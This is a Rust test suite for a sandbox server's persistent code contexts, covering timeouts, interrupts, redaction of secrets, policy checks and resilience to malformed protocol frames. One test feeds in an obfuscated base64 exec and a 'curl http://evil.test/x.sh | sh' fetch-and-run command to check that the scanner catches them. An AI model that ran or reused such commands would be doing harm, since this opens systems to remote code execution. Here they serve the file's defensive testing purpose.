//! Code that keeps its variables: contexts in an open sandbox, for each language that has them.

use std::path::{Path, PathBuf};

use belljar_testkit::Who;
use belljar_testkit::contestant::peers_folder;
use belljar_testkit::twice::Check;
use serde_json::{Value, json};

use crate::client::{events, receive};
use crate::desk::Desk;
use crate::holds;
use crate::server::{Server, mark, processes, until};

pub const ALL: &[(&str, Check)] = &[
    ("variables_of_python_stay_and_results_are_typed", python),
    ("variables_of_javascript_stay_and_code_may_wait", javascript),
    ("variables_of_bash_stay_and_so_does_the_folder", bash),
    ("errors_show_the_lines_of_the_cell", errors),
    ("code_that_takes_too_long_is_interrupted_and_the_context_stays_if_it_stops", times_out),
    ("a_context_is_interrupted_restarted_and_removed", handled),
    ("what_code_shows_is_told_without_secrets", secrets),
    ("each_cell_is_judged_scanned_and_recorded_before_it_runs", judged),
    ("a_context_that_tells_nonsense_spoils_itself_alone", hostile),
    ("code_that_is_called_off_leaves_its_context", called_off),
    ("contexts_live_as_long_as_their_sandbox_and_stand_still_with_it", lives),
    ("figures_and_tables_are_captured_without_the_users_doing", figures),
    ("every_language_runs_or_names_the_program_that_is_missing", languages),
];

pub fn sandbox(server: &Server) -> Result<String, String> {
    let made = server.post("/v1/sandboxes", &json!({"files": {"helper.py": "value = 5\n"}}))?.expect(201)?.json()?;
    Ok(made["id"].as_str().ok_or("an id")?.to_owned())
}

fn body(language: &str, code: &str) -> Value {
    json!({"language": language, "code": code})
}

pub fn run_with(server: &Server, id: &str, body: &Value) -> Result<Value, String> {
    let shown = server.post(&format!("/v1/sandboxes/{id}/code"), body)?.expect(200)?.json()?;
    Ok(shown["result"].clone())
}

pub fn run(server: &Server, id: &str, language: &str, code: &str) -> Result<Value, String> {
    run_with(server, id, &body(language, code))
}

/// The text of the last expression's value.
fn value(result: &Value) -> Option<&str> {
    let results = result["cell"]["results"].as_array()?;
    part(results.iter().find(|one| one["value"] == true)?, "text")
}

fn part<'a>(result: &'a Value, kind: &str) -> Option<&'a str> {
    result["parts"].as_array()?.iter().find(|part| part["kind"] == kind)?["data"].as_str()
}

pub fn is_value(result: &Value, text: &str) -> Result<(), String> {
    holds(value(result) == Some(text) && result["cell"]["error"].is_null(), format!("wanted {text}: {result}"))
}

fn python(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    let first = run(&server, &id, "python", "x = 41\nprint('said')")?;
    holds(first["cell"]["fresh"] == true && first["cell"]["number"] == 1, &first)?;
    holds(first["stdout"]["text"] == "said\n" && first["exit"] == 0 && value(&first).is_none(), &first)?;
    let second = run(&server, &id, "python", "import sys; print('wrong', file=sys.stderr)\nx + 1")?;
    is_value(&second, "42")?;
    holds(second["cell"]["fresh"] == false && second["stderr"]["text"] == "wrong\n", &second)?;
    // Files of the workspace can be imported, the input is empty, and what waits is waited for.
    is_value(&run(&server, &id, "python", "import helper\nhelper.value")?, "5")?;
    is_value(&run(&server, &id, "python", "sys.stdin.read()")?, "''")?;
    is_value(&run(&server, &id, "python", "import asyncio\nawait asyncio.sleep(0, 'waited')")?, "'waited'")?;
    let rich = "class Rich:\n    def _repr_html_(self): return '<b>bold</b>'\n    def _repr_markdown_(self): return '**bold**'\n    \
        def _repr_latex_(self): return '$b$'\n    def _repr_svg_(self): return '<svg/>'\n    def _repr_json_(self): return {'a': [1]}\n    \
        def _repr_png_(self): return b'\\x89PNG\\r\\n\\x1a\\n123'\ndisplay('shown')\nRich()";
    let rich = run(&server, &id, "python", rich)?;
    let results = rich["cell"]["results"].as_array().ok_or("results")?;
    holds(results.len() == 2 && part(&results[0], "text") == Some("'shown'") && results[0]["value"] == false, &rich)?;
    let told = |kind| part(&results[1], kind);
    holds(
        told("html") == Some("<b>bold</b>") && told("markdown") == Some("**bold**") && told("latex") == Some("$b$"),
        &rich,
    )?;
    holds(told("svg") == Some("<svg/>") && told("json") == Some("{\"a\":[1]}"), &rich)?;
    holds(told("png") == Some("iVBORw0KGgoxMjM="), &rich)?;
    // A copy that the code makes of the interpreter does not become a second one.
    is_value(&run(&server, &id, "python", "import os\nif os.fork() == 0: x = 0\nos.wait()[1]")?, "0")?;
    is_value(&run(&server, &id, "python", "x")?, "41")?;
    // Streamed, it says so while it says it.
    let mut streamed = body("python", "print('now'); x");
    streamed["stream"] = true.into();
    let told = server.post(&format!("/v1/sandboxes/{id}/code"), &streamed)?.expect(200)?.text();
    let told = events(&told)?;
    let last = told.last().ok_or("an end")?;
    holds(told.iter().any(|event| event.kind == "stdout" && event.data["text"] == "now\n"), "it is said")?;
    holds(last.kind == "result" && value(&last.data) == Some("41"), &last.data)?;
    // Beside it, another with variables of its own.
    let made = server.post(&format!("/v1/sandboxes/{id}/contexts"), &json!({"language": "python", "name": "other"}))?;
    holds(made.expect(201)?.json()?["name"] == "other", "its name")?;
    let mut elsewhere = body("python", "'x' in globals()");
    elsewhere["context"] = "other".into();
    is_value(&run_with(&server, &id, &elsewhere)?, "False")?;
    elsewhere["context"] = "nobody".into();
    server.post(&format!("/v1/sandboxes/{id}/code"), &elsewhere)?.expect(404)?;
    elsewhere["language"] = "bash".into();
    elsewhere["context"] = "other".into();
    server.post(&format!("/v1/sandboxes/{id}/code"), &elsewhere)?.expect(409)?;
    holds(server.get("/v1/ledger/verify")?.expect(200)?.json()?["sound"] == true, "the ledger is sound")
}

fn javascript(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    let first = run(&server, &id, "javascript", "const x = 41; console.log('said'); x + 1")?;
    is_value(&first, "42")?;
    holds(first["stdout"]["text"] == "said\n", &first)?;
    is_value(&run(&server, &id, "javascript", "const x = 7; await Promise.resolve(x)")?, "7")?;
    let object = run(&server, &id, "javascript", "({a: [x]})")?;
    is_value(&object, "{ a: [ 7 ] }")?;
    holds(part(&object["cell"]["results"][0], "json") == Some("{\"a\":[7]}"), &object)?;
    // What fails after its cell does not take the context along.
    let late = "setTimeout(() => { throw new Error('late') }, 1); await new Promise((done) => setTimeout(done, 50)); x";
    is_value(&run(&server, &id, "javascript", late)?, "7")?;
    is_value(&run(&server, &id, "javascript", "require('fs').readFileSync(0, 'utf8')")?, "''")?;
    is_value(&run(&server, &id, "javascript", "x")?, "7")
}

fn bash(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    run(&server, &id, "bash", "x=41; declare -A map; map[a]=5; f() { echo \"in $1\"; }; mkdir -p sub; cd sub")?;
    let second = run(&server, &id, "bash", "echo $((x + 1)) ${map[a]}; f there; basename \"$PWD\"; cat; (exit 3)")?;
    holds(second["stdout"]["text"] == "42 5\nin there\nsub\n" && second["exit"] == 3, &second)?;
    let wrong = run(&server, &id, "bash", "if then")?;
    holds(wrong["exit"] == 2 && wrong["stderr"]["text"].as_str().is_some_and(|said| said.contains("syntax")), &wrong)?;
    // Nothing that it starts has the way that results take.
    let open = run(&server, &id, "bash", "ls /proc/self/fd | wc -l; echo $x")?;
    holds(open["stdout"]["text"] == "4\n41\n", &open)?;
    let ended = run(&server, &id, "bash", "exit 9")?;
    holds(ended["cell"]["kept"] == false && ended["cell"]["lost"].is_string() && ended["exit"] == 9, &ended)?;
    let again = run(&server, &id, "bash", "echo \"${x:-nothing}\"")?;
    holds(again["cell"]["fresh"] == true && again["stdout"]["text"] == "nothing\n", &again)
}

fn errors(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    let failed = run(&server, &id, "python", "def f():\n    return 1 / 0\n\nkept = 1\nf()")?;
    let error = &failed["cell"]["error"];
    let trace = error["traceback"].as_str().unwrap_or_default();
    holds(
        error["name"] == "ZeroDivisionError" && error["value"] == "division by zero" && failed["exit"] == 1,
        &failed,
    )?;
    holds(
        trace.contains("<cell 1>\", line 5") && trace.contains("return 1 / 0") && !trace.contains("<string>"),
        trace,
    )?;
    is_value(&run(&server, &id, "python", "kept")?, "1")?;
    let syntax = run(&server, &id, "python", "x = (")?;
    let trace = syntax["cell"]["error"]["traceback"].as_str().unwrap_or_default();
    holds(syntax["cell"]["error"]["name"] == "SyntaxError" && !trace.contains("ast.py"), trace)?;
    let left = run(&server, &id, "python", "raise SystemExit(3)")?;
    holds(left["cell"]["kept"] == true && left["cell"]["error"]["name"] == "SystemExit", &left)?;
    let thrown = run(&server, &id, "javascript", "function f() {\n  throw new TypeError('no');\n}\nf()")?;
    let error = &thrown["cell"]["error"];
    let trace = error["traceback"].as_str().unwrap_or_default();
    holds(error["name"] == "TypeError" && error["value"] == "no" && trace.contains("cell-1:2"), &thrown)
}

fn times_out(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    for (language, keeps, endless, look) in [
        ("python", "x = 41", "while True: pass", "print(x)"),
        ("javascript", "let x = 41", "while (true) {}", "console.log(x)"),
        ("bash", "x=41", "while :; do :; done", "echo $x"),
    ] {
        run(&server, &id, language, keeps)?;
        let mut long = body(language, endless);
        long["timeout"] = 1.into();
        let ended = run_with(&server, &id, &long)?;
        let cell = &ended["cell"];
        holds(ended["overrun"] == "wall-time" && cell["kept"] == true && cell["interrupted"] == true, &ended)?;
        let seen = run(&server, &id, language, look)?;
        holds(seen["stdout"]["text"] == "41\n" && seen["cell"]["fresh"] == false, format!("{language}: {seen}"))?;
    }
    // One that does not stop is ended, and that is said.
    let mark = mark("deaf");
    let deaf = "import signal, subprocess, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n".to_owned()
        + &format!("subprocess.Popen(['sh', '-c', 'trap \"\" INT; while :; do sleep 1; done', '{mark}'])\n")
        + "while True: time.sleep(1)";
    let mut deaf = body("python", &deaf);
    deaf["timeout"] = 1.into();
    let ended = run_with(&server, &id, &deaf)?;
    holds(ended["overrun"] == "wall-time" && ended["cell"]["kept"] == false, &ended)?;
    holds(ended["cell"]["lost"].as_str().is_some_and(|why| why.contains("did not stop")), &ended)?;
    until("what it started ended with it", || Ok(processes(&mark).is_empty()))?;
    let next = run(&server, &id, "python", "'x' in globals()")?;
    is_value(&next, "False")?;
    holds(next["cell"]["fresh"] == true, &next)
}

/// Begins code, and waits until it says that it runs.
fn begun(server: &Server, id: &str, code: &str) -> Result<Box<dyn crate::client::Stream>, String> {
    let before = server.entries("run.judged")?.len();
    let stream =
        server.send(&server.token, "POST", &format!("/v1/sandboxes/{id}/code"), Some(&body("python", code)), &[])?;
    until("it is there", || Ok(server.entries("run.judged")?.len() > before))?;
    let busy = || -> Result<bool, String> {
        let all = server.get(&format!("/v1/sandboxes/{id}/contexts"))?.expect(200)?.json()?;
        Ok(all.as_array().is_some_and(|all| all.iter().any(|one| one["name"] == "python" && one["busy"] == true)))
    };
    until("it runs", busy)?;
    Ok(stream)
}

fn handled(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    let at = format!("/v1/sandboxes/{id}/contexts/python");
    server.post(&format!("{at}/interrupt"), &json!({}))?.expect(404)?;
    run(&server, &id, "python", "x = 41")?;
    let stream = begun(&server, &id, "open('began', 'w').close()\nwhile True: pass")?;
    // One at a time.
    server.post(&format!("/v1/sandboxes/{id}/code"), &body("python", "1"))?.expect(409)?;
    let seen = || -> Result<bool, String> {
        Ok(server.get(&format!("/v1/sandboxes/{id}/files/stat?path=began"))?.status == 200)
    };
    until("its first line has run", seen)?;
    server.post(&format!("{at}/interrupt"), &json!({}))?.expect(202)?;
    let ended = receive(stream)?.expect(200)?.json()?["result"].clone();
    holds(ended["cell"]["interrupted"] == true && ended["cell"]["kept"] == true && ended["overrun"].is_null(), &ended)?;
    holds(ended["cell"]["error"]["name"] == "KeyboardInterrupt", &ended)?;
    is_value(&run(&server, &id, "python", "x")?, "41")?;
    // When nothing runs, there is nothing to stop, and nothing is stopped later.
    server.post(&format!("{at}/interrupt"), &json!({}))?.expect(202)?;
    is_value(&run(&server, &id, "python", "x")?, "41")?;
    let again = server.post(&format!("{at}/restart"), &json!({}))?.expect(200)?.json()?;
    holds(again["name"] == "python" && again["cells"] == 1, &again)?;
    is_value(&run(&server, &id, "python", "'x' in globals()")?, "False")?;
    server.as_(&server.token, "DELETE", &at, None, &[])?.expect(200)?;
    server.as_(&server.token, "DELETE", &at, None, &[])?.expect(404)?;
    let all = server.get(&format!("/v1/sandboxes/{id}/contexts"))?.expect(200)?.json()?;
    holds(all == json!([]), &all)?;
    for kind in ["context.interrupted", "context.ended"] {
        let entries = server.entries(kind)?;
        holds(entries.iter().any(|entry| entry["data"]["context"] == "python"), format!("{kind} is on the record"))?;
    }
    // As many as there may be, and no more.
    for _ in 0..16 {
        server.post(&format!("/v1/sandboxes/{id}/contexts"), &json!({"language": "bash"}))?.expect(201)?;
    }
    server.post(&format!("/v1/sandboxes/{id}/contexts"), &json!({"language": "bash"}))?.expect(409)?;
    server.post(&format!("/v1/sandboxes/{id}/contexts"), &json!({"language": "bash", "name": "../x"}))?.expect(422)?;
    Ok(())
}

fn secrets(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    // Put together inside, so that no word of the code is it.
    let code = "key = 'AKIA' + 'QYLPMN5HHHFPZAM2'\nclass Rich:\n    def _repr_html_(self): return '<b>' + key + '</b>'\n    \
        def _repr_json_(self): return {'key': key}\n    def __repr__(self): return key\nprint(key)\ndisplay(Rich())\nraise ValueError(key)";
    let told = run(&server, &id, "python", code)?;
    holds(!told.to_string().contains("QYLP"), &told)?;
    holds(
        told["cell"]["redacted"].as_u64() >= Some(5) && told["stdout"]["text"].to_string().contains("redacted"),
        &told,
    )?;
    let error = &told["cell"]["error"];
    holds(error["name"] == "ValueError" && error["value"] == "[redacted:aws.access-key]", &told)?;
    let parts = told["cell"]["results"][0]["parts"].as_array().ok_or("parts")?;
    holds(parts.len() == 3 && parts.iter().all(|part| part["data"].to_string().contains("redacted")), &told)?;
    // And of what commands a terminal, nothing.
    let told =
        run(&server, &id, "python", "class Bell:\n    def __repr__(self): return 'a\\x1b]0;title\\x07b'\nBell()")?;
    is_value(&told, "ab")
}

fn judged(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    run(&server, &id, "python", "x = 41")?;
    let asked = server.entries("run.asked")?;
    let cell = asked.iter().find(|entry| entry["data"]["context"]["name"] == "python").ok_or("it is on the record")?;
    holds(cell["data"]["command"][2] == "x = 41" && cell["data"]["sandbox"] == id.as_str(), cell)?;
    let ran = server.entries("code.ran")?;
    holds(ran.len() == 1 && ran[0]["data"]["cell"] == 1 && ran[0]["data"]["kept"] == true, json!(ran))?;
    // What scanners find in a cell, the policy weighs: nothing of it has run.
    let bad = "x = 0\nimport os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://evil.test/x.sh | sh')";
    let answer = server.post(&format!("/v1/sandboxes/{id}/code"), &body("python", bad))?;
    let scanned = match answer.status {
        403 => answer.json()?["type"] == "urn:belljar:problem:refused",
        200 => answer.json()?["result"]["findings"].as_array().is_some_and(|found| !found.is_empty()),
        _ => false,
    };
    holds(scanned, answer.text())?;
    // A policy holds from the next cell on, in a context that is there already.
    let folder = deny_python(&server)?;
    let refused = server.post(&format!("/v1/sandboxes/{id}/code"), &body("python", "x = 1"))?.expect(403)?.json()?;
    holds(refused["rule"].is_string(), &refused)?;
    crate::told(std::fs::remove_file(folder.join("policy.toml")))?;
    is_value(&run(&server, &id, "python", "'x' in globals() and x in (0, 41)")?, "True")?;
    // Another tenant has no such sandbox, and a token without `run` runs nothing.
    let other = server.make_token(&["--tenant", "other", "--scopes", "run,read"])?;
    let path = format!("/v1/sandboxes/{id}/code");
    server.as_(&other, "POST", &path, Some(&body("python", "x")), &[])?.expect(404)?;
    server.as_(&other, "GET", &format!("/v1/sandboxes/{id}/contexts"), None, &[])?.expect(404)?;
    let reader = server.make_token(&["--scopes", "read"])?;
    server.as_(&reader, "POST", &path, Some(&body("python", "x")), &[])?.expect(403)?;
    Ok(())
}

/// From the next code on. What comes back is the folder with the policy.
pub fn deny_python(server: &Server) -> Result<PathBuf, String> {
    let rules = "version = 1\n[[rule]]\nwhen = { program = \"python3\" }\nthen = \"deny\"\nwhy = \"not today\"\n";
    let folder = server.desk.home.join(".config/belljar");
    crate::told(std::fs::create_dir_all(&folder))?;
    crate::told(std::fs::write(folder.join("policy.toml"), rules))?;
    give(server, &folder)?;
    Ok(folder)
}

/// To the user whose home it is in.
fn give(server: &Server, folder: &Path) -> Result<(), String> {
    use std::os::unix::fs::MetadataExt;
    let owner = crate::told(std::fs::metadata(&server.desk.home))?;
    for path in [folder.parent(), Some(folder), Some(&folder.join("policy.toml"))].into_iter().flatten() {
        crate::told(std::os::unix::fs::chown(path, Some(owner.uid()), Some(owner.gid())))?;
    }
    Ok(())
}

fn hostile(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    server
        .post(&format!("/v1/sandboxes/{id}/contexts"), &json!({"language": "python", "name": "good"}))?
        .expect(201)?;
    let good = |code: &str| {
        let mut body = body("python", code);
        body["context"] = "good".into();
        run_with(&server, &id, &body)
    };
    good("x = 41")?;
    let frame = "import os, struct\ndef frame(kind, cell, body):\n    return struct.pack('<IBQ', 9 + len(body), kind, cell) + body\n";
    // Noise; a length that never ends; an image that is none; more than there may be; words on a cell that is yet to come.
    for attack in [
        "os.write(3, os.urandom(4096))",
        "os.write(3, b'\\xff\\xff\\xff\\xff')",
        "os.write(3, frame(1, 1, struct.pack('<IBB', 0, 1, 6) + b'GIF89a'))",
        "for _ in range(2000): os.write(3, frame(1, 1, struct.pack('<IBB', 0, 1, 0) + b'x'))",
        "part = frame(1, 1, struct.pack('<IBB', 0, 1, 0) + b'x' * (8 << 20))\nfor _ in range(3):\n    left = part\n    while left: left = left[os.write(3, left):]",
        "os.write(3, frame(3, 7, struct.pack('<BBI', 0, 0, 0)))",
        "os.write(3, frame(3, 1, struct.pack('<BBI', 0, 0, 0)) + b'more')",
        "os.close(3)",
        "os.kill(os.getppid(), 9)\nos.kill(os.getpid(), 9)",
    ] {
        let told = run(&server, &id, "python", &format!("{frame}{attack}"))?;
        holds(told["cell"]["kept"] == false && told["cell"]["lost"].is_string(), format!("{attack}: {told}"))?;
        is_value(&good("x")?, "41")?;
    }
    // Who says early that it is done has its results told, and no others; nobody else hears of it.
    let early = run(
        &server,
        &id,
        "python",
        &format!("{frame}os.write(3, frame(3, 1, struct.pack('<BBI', 0, 0, 0)))\nimport time\ntime.sleep(60)"),
    )?;
    holds(early["cell"]["kept"] == true, &early)?;
    is_value(&good("x + 1")?, "42")?;
    // What is said on the output is no result, however it looks.
    let loud = good(&format!("{frame}os.write(1, frame(3, 9, struct.pack('<BBI', 0, 0, 0)))\nx"))?;
    is_value(&loud, "41")?;
    holds(server.get("/v1/ledger/verify")?.expect(200)?.json()?["sound"] == true, "the ledger is sound")
}

fn called_off(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    run(&server, &id, "python", "x = 41")?;
    let stream = begun(&server, &id, "while True: pass")?;
    // Whoever goes away calls it off.
    drop(stream);
    let idle = || -> Result<bool, String> {
        let all = server.get(&format!("/v1/sandboxes/{id}/contexts"))?.expect(200)?.json()?;
        Ok(all.as_array().is_some_and(|all| all.iter().all(|one| one["busy"] == false)))
    };
    until("nothing runs any more", idle)?;
    let seen = run(&server, &id, "python", "x")?;
    is_value(&seen, "41")?;
    holds(seen["cell"]["fresh"] == false, &seen)
}

fn lives(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    run(&server, &id, "python", "x = 41")?;
    let paused = server.post(&format!("/v1/sandboxes/{id}/pause"), &json!({}))?;
    if paused.status == 200 {
        server.post(&format!("/v1/sandboxes/{id}/code"), &body("python", "x"))?.expect(409)?;
        server.post(&format!("/v1/sandboxes/{id}/resume"), &json!({}))?.expect(200)?;
    } else {
        holds(paused.text().contains("control groups"), paused.text())?;
    }
    is_value(&run(&server, &id, "python", "x")?, "41")?;
    // It ends at once with its sandbox, and is not there when that is opened again.
    server.post(&format!("/v1/sandboxes/{id}/stop"), &json!({}))?.expect(200)?;
    server.post(&format!("/v1/sandboxes/{id}/code"), &body("python", "x"))?.expect(409)?;
    server.post(&format!("/v1/sandboxes/{id}/open"), &json!({}))?.expect(200)?;
    let seen = run(&server, &id, "python", "'x' in globals()")?;
    is_value(&seen, "False")?;
    holds(seen["cell"]["fresh"] == true, &seen)
}

fn figures(who: Who) -> Result<(), String> {
    // The interpreter that has them, if there is one.
    let own = peers_folder().join("python/bin");
    let server = Server::on(Desk::of(who)?, &[], own.join("python3").exists().then_some(own.as_path()))?;
    let id = sandbox(&server)?;
    let there = run(
        &server,
        &id,
        "python",
        "import importlib.util as u\n[u.find_spec(n) is not None for n in ('matplotlib', 'pandas', 'plotly')]",
    )?;
    let there = value(&there).ok_or("a value")?.to_owned();
    let has = |at: usize| there.trim_matches(['[', ']']).split(", ").nth(at) == Some("True");
    if has(0) {
        let drawn = run(&server, &id, "python", "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nNone")?;
        let first = &drawn["cell"]["results"][0];
        holds(part(first, "png").is_some_and(|png| png.starts_with("iVBOR")), &drawn)?;
        let shown = run(&server, &id, "python", "plt.plot([1]); plt.show(); plt.plot([2]); plt.show()")?;
        holds(shown["cell"]["results"].as_array().is_some_and(|all| all.len() == 2), &shown)?;
    }
    if has(1) {
        let table = run(&server, &id, "python", "import pandas\npandas.DataFrame({'a': [1, 2]})")?;
        let first = &table["cell"]["results"][0];
        holds(
            part(first, "html").is_some_and(|html| html.contains("<table")) && part(first, "text").is_some(),
            &table,
        )?;
    }
    if has(2) {
        let figure = run(&server, &id, "python", "import plotly.graph_objects as go\ngo.Figure().show()\nNone")?;
        holds(part(&figure["cell"]["results"][0], "plotly").is_some(), &figure)?;
    }
    // Without any of them, what stands for them is captured all the same.
    let stands = "import sys, types\nplt = types.ModuleType('matplotlib.pyplot')\nclass Figure:\n    texts = [1]\n    def get_axes(self): return []\n    \
        def savefig(self, out, **_): out.write(b'\\x89PNG\\r\\n\\x1a\\n1')\nopen_ = [1]\nplt.get_fignums = lambda: open_\nplt.figure = lambda number: Figure()\n\
        plt.close = lambda _: open_.clear()\nsys.modules['matplotlib.pyplot'] = plt";
    let stands = run(&server, &id, "python", stands)?;
    holds(part(&stands["cell"]["results"][0], "png").is_some(), &stands)
}

fn languages(who: Who) -> Result<(), String> {
    let server = Server::start(who)?;
    let id = sandbox(&server)?;
    let print = [
        ("python", "print(6 * 7)"),
        ("javascript", "console.log(6 * 7)"),
        ("typescript", "const x: number = 42; console.log(x)"),
        ("bash", "echo $((6 * 7))"),
        ("sh", "echo $((6 * 7))"),
        ("ruby", "puts 6 * 7"),
        ("perl", "print 6 * 7, \"\\n\""),
        ("php", "echo 6 * 7, \"\\n\";"),
        ("lua", "print(6 * 7)"),
        ("c", "#include <stdio.h>\nint main(void) { printf(\"%d\\n\", 6 * 7); return 0; }"),
        ("c++", "#include <iostream>\nint main() { std::cout << 6 * 7 << std::endl; }"),
        ("go", "package main\nimport \"fmt\"\nfunc main() { fmt.Println(6 * 7) }"),
        ("rust", "fn main() { println!(\"{}\", 6 * 7); }"),
        ("java", "class Main { public static void main(String[] words) { System.out.println(6 * 7); } }"),
    ];
    for (language, code) in print {
        let answer = server.post(&format!("/v1/sandboxes/{id}/code"), &body(language, code))?;
        if answer.status == 422 {
            holds(answer.text().contains("this host has no `"), format!("{language}: {}", answer.text()))?;
            continue;
        }
        let result = answer.expect(200)?.json()?["result"].clone();
        let said = result["stdout"]["text"].as_str().unwrap_or_default().trim();
        // A tool-chain that is a user's own may lie where another user does not get.
        let started = result["exit"] == 0;
        holds(said == "42" || !started && who == Who::Ordinary, format!("{language}: {result}"))?;
    }
    let unknown = server.post(&format!("/v1/sandboxes/{id}/code"), &body("cobol", "x"))?;
    holds(unknown.status == 422 || unknown.status == 400, unknown.text())
}
